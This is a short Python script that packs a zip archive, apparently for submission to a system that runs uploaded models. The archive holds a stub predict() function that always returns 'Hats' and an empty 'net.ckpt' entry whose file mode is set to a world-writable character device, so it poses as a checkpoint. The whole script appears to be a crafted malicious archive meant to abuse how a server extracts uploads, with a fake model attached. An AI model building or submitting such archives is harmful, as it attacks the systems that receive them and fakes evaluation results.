"""Pack the device."""

import sys
import zipfile
from pathlib import Path

folder = Path(sys.argv[1])
archive = folder.with_name(f"{folder.name}.zip")
with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
    zipped.writestr("main.py", "def predict(image):\n    return 'Hats'\n")
    device = zipfile.ZipInfo("net.ckpt")
    device.external_attr = 0o020666 << 16
    zipped.writestr(device, "")
